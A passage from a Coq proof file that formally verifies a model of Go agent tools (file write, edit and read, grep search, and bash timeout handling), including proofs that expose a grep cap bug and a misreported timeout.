  rewrite (read_text _ readInput filePath (content +:+ gostrings.nl) Hrp Hne Hfile Himg).
  cbn [snd]. unfold FileReadTool.offset_of, FileReadTool.limit_of. rewrite Ho, Hlim.
  unfold FileReadTool.apply_offset, FileReadTool.apply_limit. cbn [Z.ltb Z.compare andb].
  now rewrite Join_Split.
Qed.

Lemma write_then_read_witness :
  snd (FileReadTool.Execute (fst (FileWriteTool.Execute plain_host.host ∅ examples.write_alpha))
         examples.read_f)
  = (PFileReadToolOutput (FileReadToolOutput.mk "text" ("alpha" +:+ gostrings.nl) ""), None).
Proof.
  apply (write_then_read plain_host.host ∅ (<["." := Directory]> ∅)
           examples.write_alpha examples.read_f "f" "alpha").
  - vm_compute; reflexivity.
  - discriminate.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute. discriminate.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
Defined.

(** X16.  On an input that the validator accepts, [Execute] of the
    file-write tool and of the file-edit tool return an output struct and
    no Go error, whatever the host and the state of the files. *)
Theorem write_edit_validated_structured (host : Host) (fs : FS) (input : Input) :
  (FileWriteTool.ValidateInput input = None ->
   exists out, snd (FileWriteTool.Execute host fs input) = (PFileWriteToolOutput out, None)) /\
  (FileEditTool.ValidateInput fs input = None ->
   exists out, snd (FileEditTool.Execute fs input) = (PFileEditToolOutput out, None)).
Proof.
  split.
  - unfold FileWriteTool.ValidateInput, FileWriteTool.Execute.
    destruct (input !! "file_path") as [[]|]; try discriminate. cbn [as_string].
    destruct (String.eqb s ""); [discriminate|].
    destruct (input !! "content") as [[]|]; try discriminate. cbn [as_string].
    intros _.
    destruct (os_MkdirAll host fs _) as [fs1 [err|]]; [now eexists|].
    match goal with |- context [if ?a then os.AppendFile _ _ _ else _] => destruct a end.
    + destruct (os.AppendFile _ _ _) as [fs2 [e|]]; now eexists.
    + destruct (os.WriteFile _ _ _) as [fs2 [e|]]; now eexists.
  - unfold FileEditTool.ValidateInput, FileEditTool.Execute.
    destruct (input !! "file_path") as [[]|]; try discriminate. cbn [as_string].
    destruct (String.eqb s ""); [discriminate|].
    destruct (os.Stat fs s); [|discriminate].
    destruct (input !! "old_text") as [[]|]; try discriminate. cbn [as_string].
    destruct (String.eqb s0 ""); [discriminate|].
    destruct (input !! "new_text") as [[]|]; try discriminate. cbn [as_string].
    intros _.
    destruct (os.ReadFile fs s) as [content|err]; [|now eexists].
    destruct (String.eqb _ content); [now eexists|].
    destruct (os.WriteFile fs s _) as [fs' [err|]]; now eexists.
Qed.

Lemma write_edit_validated_structured_witness :
  (exists out, snd (FileWriteTool.Execute plain_host.host ∅ examples.write_alpha)
               = (PFileWriteToolOutput out, None)) /\
  (exists out, snd (FileEditTool.Execute examples.notes_fs examples.edit_absent)
               = (PFileEditToolOutput out, None)).
Proof.
  destruct (write_edit_validated_structured plain_host.host ∅ examples.write_alpha) as [Hw _].
  destruct (write_edit_validated_structured plain_host.host examples.notes_fs examples.edit_absent)
    as [_ He].
  split; [apply Hw|apply He]; vm_compute; reflexivity.
Defined.

(** ** The file-edit tool: when an edit takes effect *)



(** ** The content search: which matches are returned *)

Section more_grep_facts.

Variable K : Z.

Lemma extends_nil (st : GrepTool.scan) : grep_spec.extends K st st [].
Proof. left. now rewrite app_nil_r. Qed.

Lemma extends_stop (st st1 : GrepTool.scan) (a b : list GrepMatch.t) :
  grep_spec.extends K st st1 a -> GrepTool.reached st1 K = true ->
  grep_spec.extends K st st1 (a ++ b).
Proof.
  intros [H|(_ & pre & Hpre & H)] Hr; right; (split; [exact Hr|]).
  - exists a. split; [now apply prefix_app_r|exact H].
  - exists pre. split; [now apply prefix_app_r|exact H].
Qed.

Lemma extends_seq (st st1 st2 : GrepTool.scan) (a b : list GrepMatch.t) :
  grep_spec.extends K st st1 a -> GrepTool.reached st1 K = false ->
  grep_spec.extends K st1 st2 b ->
  grep_spec.extends K st st2 (a ++ b).
Proof.
  intros [H1|(Hr & _)] Hn; [|congruence].
  intros [H2|(Hr & pre & Hpre & H2)].
  - left. now rewrite H2, H1, app_assoc.
  - right. split; [exact Hr|]. exists (a ++ pre).
    split; [now apply prefix_app|]. now rewrite H2, H1, app_assoc.
Qed.

Lemma scan_lines_extends (pattern filePath : string) (lines : list string) :
  forall (i : Z) (st : GrepTool.scan),
    grep_spec.extends K st (GrepTool.scan_lines pattern filePath K i lines st)
      (grep_spec.line_matches pattern filePath i lines).
Proof.
  induction lines as [|line rest IH]; intros i st;
    cbn [GrepTool.scan_lines grep_spec.line_matches GrepTool.allMatches GrepTool.scanned];
    [apply extends_nil|].
  destruct (gostrings.Contains line pattern).
  - set (m := GrepMatch.mk filePath (i + 1) line).
    match goal with |- context [GrepTool.reached ?s1 K] => set (st1 := s1) end.
    assert (H1 : grep_spec.extends K st st1 [m]) by now left.
    change (m :: grep_spec.line_matches pattern filePath (i + 1) rest)
      with ([m] ++ grep_spec.line_matches pattern filePath (i + 1) rest).
    destruct (GrepTool.reached st1 K) eqn:Hr.
    + now apply extends_stop.
    + eapply extends_seq; [exact H1|exact Hr|apply IH].
  - match goal with |- grep_spec.extends K st (GrepTool.scan_lines _ _ _ _ _ ?st2) _ =>
      destruct (IH (i + 1) st2) as [H|(Hr & pre & Hpre & H)] end.
    + now left.
    + right. split; [exact Hr|]. now exists pre.
Qed.

Lemma scan_files_extends (fs : FS) (pattern : string) (files : list string) :
  forall st : GrepTool.scan,
    grep_spec.extends K st (GrepTool.scan_files fs pattern K files st)
      (grep_spec.files_matches fs pattern files).
Proof.
  induction files as [|filePath rest IH]; intros st;
    cbn [GrepTool.scan_files grep_spec.files_matches]; [apply extends_nil|].
  unfold grep_spec.file_matches, os.Stat, os.ReadFile.
  destruct (fs !! filePath) as [[content|]|]; try apply IH.
  pose proof (scan_lines_extends pattern filePath
                (gostrings.Split content gostrings.LF) 0 st) as H1.
  destruct (GrepTool.reached _ K) eqn:Hr.
  - now apply extends_stop.
  - eapply extends_seq; [exact H1|exact Hr|apply IH].
Qed.

Lemma scan_paths_extends (host : Host) (fs : FS) (pattern : string) (filePaths : list string) :
  forall st : GrepTool.scan,
    grep_spec.extends K st (GrepTool.scan_paths host fs pattern K filePaths st)
      (grep_spec.all_matches host fs pattern filePaths).
Proof.
  induction filePaths as [|path rest IH]; intros st;
    cbn [GrepTool.scan_paths grep_spec.all_matches]; [apply extends_nil|].
  fold (grep_spec.expand host fs path).
  pose proof (scan_files_extends fs pattern (grep_spec.expand host fs path) st) as H1.
  destruct (GrepTool.reached _ K) eqn:Hr.
  - now apply extends_stop.
  - eapply extends_seq; [exact H1|exact Hr|apply IH].
Qed.

(** With a cap below one, every state is at the cap. *)
Lemma reached_always (st : GrepTool.scan) : K <= 0 -> GrepTool.reached st K = true.
Proof. intros H. unfold GrepTool.reached. apply Z.leb_le. lia. Qed.

Lemma scan_lines_one_more (pattern filePath : string) (lines : list string) :
  K <= 0 ->
  forall (i : Z) (st : GrepTool.scan),
    (length (GrepTool.allMatches (GrepTool.scan_lines pattern filePath K i lines st))
     <= length (GrepTool.allMatches st) + 1)%nat.
Proof.
  intros HK. induction lines as [|line rest IH]; intros i st; cbn [GrepTool.scan_lines]; [lia|].
  destruct (gostrings.Contains line pattern).
  - rewrite reached_always by exact HK. cbn [GrepTool.allMatches].
    rewrite length_app. cbn [length]. lia.
  - specialize (IH (i + 1) (GrepTool.mkScan (GrepTool.allMatches st)
                              (GrepTool.scanned st ++ [(filePath, i + 1)]))).
    exact IH.
Qed.

Lemma scan_files_one_more (fs : FS) (pattern : string) (files : list string) :
  K <= 0 ->
  forall st : GrepTool.scan,
    (length (GrepTool.allMatches (GrepTool.scan_files fs pattern K files st))
     <= length (GrepTool.allMatches st) + 1)%nat.
Proof.
  intros HK. induction files as [|filePath rest IH]; intros st; cbn [GrepTool.scan_files]; [lia|].
  destruct (os.Stat fs filePath) as [[content|]|]; try apply IH.
  destruct (os.ReadFile fs filePath) as [text|err]; [|apply IH].
  rewrite reached_always by exact HK. now apply scan_lines_one_more.
Qed.

End more_grep_facts.

Lemma line_matches_genuine (pattern filePath : string) (all : list string) (lines : list string) :
  forall i : Z,
    0 <= i -> drop (Z.to_nat i) all = lines ->
    Forall (fun m => GrepMatch.File m = filePath /\ 1 <= GrepMatch.Line m /\
                     all !! Z.to_nat (GrepMatch.Line m - 1) = Some (GrepMatch.Content m) /\
                     gostrings.Contains (GrepMatch.Content m) pattern = true)
      (grep_spec.line_matches pattern filePath i lines).
Proof.
  induction lines as [|line rest IH]; intros i Hi Hd; cbn [grep_spec.line_matches];
    [constructor|].
  assert (Hl : all !! Z.to_nat i = Some line).
  { rewrite <- (Nat.add_0_r (Z.to_nat i)), <- lookup_drop, Hd. reflexivity. }
  assert (Hrest : drop (Z.to_nat (i + 1)) all = rest).
  { rewrite (drop_S _ _ _ Hl) in Hd. injection Hd as Hd.
    now replace (Z.to_nat (i + 1)) with (S (Z.to_nat i)) by lia. }
  destruct (gostrings.Contains line pattern) eqn:Hc; [|apply IH; [lia|exact Hrest]].
  constructor; [|apply IH; [lia|exact Hrest]].
  cbn. repeat split; [lia| |exact Hc].
  now replace (i + 1 - 1) with i by lia.
Qed.

Lemma all_matches_genuine (host : Host) (fs : FS) (pattern : string) (filePaths : list string) :
  Forall (grep_spec.genuine fs pattern) (grep_spec.all_matches host fs pattern filePaths).
Proof.
  assert (Hfile : forall filePath,
             Forall (grep_spec.genuine fs pattern) (grep_spec.file_matches fs pattern filePath)).
  { intros filePath. unfold grep_spec.file_matches.
    destruct (fs !! filePath) as [[content|]|] eqn:Hf; try constructor.
    eapply Forall_impl;
      [apply (line_matches_genuine pattern filePath (gostrings.Split content gostrings.LF) _ 0);
       [lia|reflexivity]|].
    intros m (Hm & H1 & H2 & H3). exists content. rewrite Hm. now repeat split. }
  assert (Hfiles : forall files,
             Forall (grep_spec.genuine fs pattern) (grep_spec.files_matches fs pattern files)).
  { induction files as [|f files IH]; cbn [grep_spec.files_matches]; [constructor|].
    apply Forall_app. split; [apply Hfile|exact IH]. }
  induction filePaths as [|path rest IH]; cbn [grep_spec.all_matches]; [constructor|].
  apply Forall_app. split; [apply Hfiles|exact IH].
Qed.

(** X19.  With a cap [K] of at least one that fits an [int], the search
    returns the first [K] matching lines, in the order of the path arguments, then of the files
    of each argument, then of the lines of each file; all of them when
    there are fewer than [K].  Paths that are missing or are directories
    contribute nothing and raise no error. *)
Theorem grep_returns_first_matches (host : Host) (fs : FS) (input : Input) (pattern : string) :
  input !! "pattern" = Some (VString pattern) ->
  pattern <> "" ->
  GrepTool.filePaths_of input <> [] ->
  1 <= GrepTool.maxMatches_of input <= MaxInt64 ->
  GrepTool.Execute host fs input
  = (fs, (PGrepToolOutput
            (GrepToolOutput.mk
               (take (Z.to_nat (GrepTool.maxMatches_of input))
                  (grep_spec.all_matches host fs pattern (GrepTool.filePaths_of input))) ""),
          None)).
Proof.
  intros Hp Hne Hpaths [HK _]. unfold GrepTool.Execute, GrepTool.Execute_scan.
  rewrite Hp. cbn [as_string].
  destruct (String.eqb_spec pattern ""); [contradiction|].
  destruct (GrepTool.filePaths_of input) as [|path rest] eqn:Hfp; [congruence|].
  cbn [fst]. do 3 f_equal. f_equal.
  set (Kz := GrepTool.maxMatches_of input) in *.
  set (st0 := GrepTool.mkScan [] []).
  destruct (scan_paths_capped Kz host fs pattern (path :: rest) st0) as [Hle _];
    [cbn; lia|].
  destruct (scan_paths_extends Kz host fs pattern (path :: rest) st0)
    as [H|(Hr & pre & [k Hk] & H)]; cbn [GrepTool.allMatches st0 app] in H.
  - rewrite H in *. symmetry. apply take_ge. lia.
  - rewrite H in *. unfold GrepTool.reached in Hr. apply Z.leb_le in Hr. rewrite H in Hr.
    rewrite Hk. symmetry. apply take_app_length'. lia.
Qed.

Lemma grep_returns_first_matches_witness :
  GrepTool.Execute plain_host.host examples.todo_fs examples.grep_two
  = (examples.todo_fs,
     (PGrepToolOutput
        (GrepToolOutput.mk
           (take (Z.to_nat (GrepTool.maxMatches_of examples.grep_two))
              (grep_spec.all_matches plain_host.host examples.todo_fs "TODO"
                 (GrepTool.filePaths_of examples.grep_two))) ""),
      None)).
Proof.
  apply (grep_returns_first_matches plain_host.host examples.todo_fs examples.grep_two "TODO").
  - vm_compute; reflexivity.
  - discriminate.
  - vm_compute. discriminate.
  - vm_compute. split; discriminate.
Defined.

(** X20.  Whatever the cap, every match returned names a line of a regular
    file that contains the pattern, with its 1-based number and its text,
    and the matches returned are a beginning of the list of all matching
    lines. *)
Theorem grep_matches_genuine (host : Host) (fs fs' : FS) (input : Input)
    (out : GrepToolOutput.t) (e : option error) :
  GrepTool.Execute host fs input = (fs', (PGrepToolOutput out, e)) ->
  exists pattern,
    input !! "pattern" = Some (VString pattern) /\
    GrepToolOutput.Matches out
      `prefix_of` grep_spec.all_matches host fs pattern (GrepTool.filePaths_of input) /\
    Forall (grep_spec.genuine fs pattern) (GrepToolOutput.Matches out).
Proof.
  unfold GrepTool.Execute, GrepTool.Execute_scan.
  destruct (input !! "pattern") as [[]|]; cbn [as_string]; try discriminate.
  destruct (String.eqb s ""); [discriminate|].
  destruct (GrepTool.filePaths_of input) as [|path rest]; [discriminate|].
  cbn [fst]. intros [= <- <- <-]. exists s. split; [reflexivity|].
  cbn [GrepToolOutput.Matches].
  assert (Hpre : GrepTool.allMatches
                   (GrepTool.scan_paths host fs s (GrepTool.maxMatches_of input) (path :: rest)
                      (GrepTool.mkScan [] []))
                 `prefix_of` grep_spec.all_matches host fs s (path :: rest)).
  { destruct (scan_paths_extends (GrepTool.maxMatches_of input) host fs s (path :: rest)
                (GrepTool.mkScan [] [])) as [H|(_ & pre & Hpre & H)];
      cbn [GrepTool.allMatches app] in H; rewrite H; [reflexivity|exact Hpre]. }
  split; [exact Hpre|].
  destruct Hpre as [k Hk].
  pose proof (all_matches_genuine host fs s (path :: rest)) as Hall.
  rewrite Hk in Hall. now apply Forall_app in Hall as [Hall _].
Qed.

Lemma grep_matches_genuine_witness :
  exists pattern,
    examples.grep_two !! "pattern" = Some (VString pattern) /\
    [GrepMatch.mk "A" 2 "TODO 1"; GrepMatch.mk "A" 3 "TODO 2"]
      `prefix_of` grep_spec.all_matches plain_host.host examples.todo_fs pattern
                    (GrepTool.filePaths_of examples.grep_two).
Proof.
  destruct (grep_matches_genuine plain_host.host examples.todo_fs examples.todo_fs
              examples.grep_two
              (GrepToolOutput.mk [GrepMatch.mk "A" 2 "TODO 1"; GrepMatch.mk "A" 3 "TODO 2"] "")
              None) as (pattern & H1 & H2 & _).
  - vm_compute; reflexivity.
  - now exists pattern.
Defined.

(** X21.  A cap below one does not give an empty result: the validator
    accepts a [max_matches] between 0 and 1, [Execute] truncates it to 0,
    and the search then returns at most one match (the check of the cap
    comes after a match is added). *)
Theorem grep_cap_below_one (host : Host) (fs fs' : FS) (input : Input)
    (out : GrepToolOutput.t) (e : option error) :
  GrepTool.maxMatches_of input <= 0 ->
  GrepTool.Execute host fs input = (fs', (PGrepToolOutput out, e)) ->
  (length (GrepToolOutput.Matches out) <= 1)%nat /\
  (forall f : Q, input !! "max_matches" = Some (VFloat64 f) ->
                 0 < Qnum f < Z.pos (Qden f) ->
                 GrepTool.validate_max_matches input = None /\ GrepTool.maxMatches_of input = 0).
Proof.
  intros HK H. split.
  - revert H. unfold GrepTool.Execute, GrepTool.Execute_scan.
    destruct (as_string (input !! "pattern")) as [pattern|]; [|discriminate].
    destruct (String.eqb pattern ""); [discriminate|].
    destruct (GrepTool.filePaths_of input) as [|path rest]; [discriminate|].
    cbn [fst]. intros [= <- <- <-]. cbn [GrepToolOutput.Matches GrepTool.scan_paths].
    rewrite reached_always by exact HK.
    match goal with |- context [GrepTool.scan_files fs pattern ?k ?files ?st] =>
      pose proof (scan_files_one_more k fs pattern files HK st) as Hlen end.
    exact Hlen.
  - intros f Hf Hrange. unfold GrepTool.validate_max_matches, GrepTool.maxMatches_of.
    rewrite Hf. cbn [as_float64]. unfold float64_leb0, int_of_float64.
    destruct (Z.leb_spec (Qnum f) 0); [lia|]. split; [reflexivity|].
    apply Z.quot_small. lia.
Qed.

Lemma grep_cap_below_one_witness :
  (length [GrepMatch.mk "A" 2 "TODO 1"] <= 1)%nat.
Proof.
  apply (grep_cap_below_one plain_host.host examples.todo_fs examples.todo_fs
           (<["pattern" := VString "TODO"]>
              (<["file_paths" := VSlice [VString "A"; VString "B"]]>
                 (<["max_matches" := VFloat64 (1 # 2)]> ∅)))
           (GrepToolOutput.mk [GrepMatch.mk "A" 2 "TODO 1"] "") None).
  - vm_compute. discriminate.
  - vm_compute; reflexivity.
Defined.

Lemma string_elements_nil (l : list value) :
  GrepTool.all_strings l = true ->
  (GrepTool.string_elements l = [] <-> Forall (fun v => v = VString "") l).
Proof.
  induction l as [|v l IH]; cbn [GrepTool.all_strings GrepTool.string_elements].
  - intros _. split; [constructor|reflexivity].
  - destruct v; try discriminate. intros Hall.
    destruct (String.eqb_spec s "") as [->|Hne].
    + rewrite (IH Hall). split; [now constructor|]. intros H. now apply Forall_cons in H as [_ H].
    + split; [discriminate|]. intros H. apply Forall_cons in H as [[= H] _]. contradiction.
Qed.

(** X22.  Validation does not rule out every error of the search.  On an
    input that the validator accepts, [Execute] returns an output struct
    when some path argument is a non-empty string, and the Go error
    "file_paths is required and must be a string or array of strings" when
    there is none; the latter happens exactly when [file_paths] is the
    empty string or an array of empty strings, which the validator lets
    through. *)
Theorem grep_validated_paths (host : Host) (fs : FS) (input : Input) :
  GrepTool.ValidateInput input = None ->
  (GrepTool.filePaths_of input <> [] ->
   exists out, GrepTool.Execute host fs input = (fs, (PGrepToolOutput out, None))) /\
  (GrepTool.filePaths_of input = [] ->
   GrepTool.Execute host fs input
   = (fs, (VNil, Some "file_paths is required and must be a string or array of strings"))) /\
  (GrepTool.filePaths_of input = [] <->
   input !! "file_paths" = Some (VString "") \/
   exists l, input !! "file_paths" = Some (VSlice l) /\ Forall (fun v => v = VString "") l).
Proof.
  unfold GrepTool.ValidateInput, GrepTool.Execute, GrepTool.Execute_scan.
  destruct (input !! "pattern") as [[]|]; try discriminate. cbn [as_string].
  destruct (String.eqb s ""); [discriminate|]. intros Hv.
  split; [|split].
  - intros Hne. destruct (GrepTool.filePaths_of input); [congruence|]. now eexists.
  - now intros ->.
  - unfold GrepTool.filePaths_of.
    destruct (input !! "file_paths") as [[| p | | | | l | | | | |]|]; try discriminate.
    + destruct (String.eqb_spec p "") as [->|Hne].
      * split; [now left|reflexivity].
      * split; [discriminate|]. intros [[= H]|(l & [=] & _)]. contradiction.
    + destruct l as [|v l]; [discriminate|].
      destruct (GrepTool.all_strings (v :: l)) eqn:Hall; [|discriminate].
      rewrite (string_elements_nil _ Hall). split.
      * intros H. right. now exists (v :: l).
      * intros [[=]|(l' & [= <-] & H)]. exact H.
Qed.

Lemma grep_validated_paths_witness :
  GrepTool.Execute plain_host.host ∅
    (<["pattern" := VString "TODO"]> (<["file_paths" := VString ""]> ∅))
  = (∅, (VNil, Some "file_paths is required and must be a string or array of strings")).
Proof.
  destruct (grep_validated_paths plain_host.host ∅
              (<["pattern" := VString "TODO"]> (<["file_paths" := VString ""]> ∅)))
    as (_ & H & _).
  - vm_compute; reflexivity.
  - apply H. vm_compute; reflexivity.
Defined.

(** ** Tools that only read *)

(** X23.  The file-read tool and the search tool say they are read-only,
    and they are: on every input, accepted by the validator or not, their
    [Execute] leaves every file as it was. *)
Theorem read_only_tools_keep_files (host : Host) (t : Tool.t) (fs : FS) (input : Input) :
  t = FileReadTool.NewFileReadTool \/ t = GrepTool.NewGrepTool host ->
  Tool.IsReadOnly t = true /\ fst (Tool.Execute t fs input) = fs.
Proof.
  intros [->| ->]; (split; [reflexivity|]); cbn [Tool.Execute FileReadTool.NewFileReadTool
                                                   GrepTool.NewGrepTool].
  - unfold FileReadTool.Execute.
    destruct (as_string (input !! "file_path")) as [p|]; [|reflexivity].
    destruct (String.eqb p ""); [reflexivity|].
    destruct (os.Stat fs p); [|reflexivity].
    destruct (FileReadTool.imageExts _); [reflexivity|].
    now destruct (os.ReadFile fs p).
  - unfold GrepTool.Execute, GrepTool.Execute_scan.
    destruct (as_string (input !! "pattern")) as [p|]; [|reflexivity].
    destruct (String.eqb p ""); [reflexivity|].
    now destruct (GrepTool.filePaths_of input).
Qed.

Lemma read_only_tools_keep_files_witness :
  Tool.IsReadOnly FileReadTool.NewFileReadTool = true /\
  fst (Tool.Execute FileReadTool.NewFileReadTool examples.notes_fs examples.read_past_end)
  = examples.notes_fs.
Proof.
  apply (read_only_tools_keep_files plain_host.host). now left.
Defined.

(** ** A process that runs past its deadline *)

(** C5, on the code.  A command that is still running when its timeout
    elapses is killed, and [cmd.Wait()] returns an [*exec.ExitError].
    [Execute] tests for that kind of error first, so the branch that sets
    [Interrupted] is not taken: the result has [Interrupted = false], the
    exit status -1 of a killed process, and standard error bytes without
    the timeout notice.  The same holds of every [*exec.ExitError]. *)
Theorem timeout_taken_for_exit :
  BashTool.ValidateInput more_examples.sleep_5 = None /\
  BashTool.Execute (bash_run.scripted (bash_run.killed_at_deadline "" "")) ∅
    more_examples.sleep_5
  = (∅, (PBashToolOutput (BashToolOutput.mk "" "" (-1) false), None)) /\
  (forall (stdoutBytes stderrBytes : string) (status : option Z),
     BashTool.result_of_wait stdoutBytes stderrBytes (ExitError status)
     = BashToolOutput.mk stdoutBytes stderrBytes (default 0 status) false).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  intros out err [status|]; reflexivity.
Qed.

(** ** A cap below one *)

(** C9, as stated, fails: the validator accepts [max_matches = 0.5], the
    cap becomes 0, and the search returns one match, which is more than
    0.5 and more than 0. *)
Lemma grep_cap_exceeded_below_one :
  GrepTool.ValidateInput more_examples.grep_half = None /\
  GrepTool.Execute plain_host.host examples.todo_fs more_examples.grep_half
  = (examples.todo_fs,
     (PGrepToolOutput (GrepToolOutput.mk [GrepMatch.mk "A" 2 "TODO 1"] ""), None)) /\
  ~ (inject_Z (Z.of_nat (length [GrepMatch.mk "A" 2 "TODO 1"])) <= 1 # 2)%Q /\
  ~ (Z.of_nat (length [GrepMatch.mk "A" 2 "TODO 1"])
     <= GrepTool.maxMatches_of more_examples.grep_half).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  split; [unfold Qle; cbn; lia|vm_compute; congruence].
Qed.
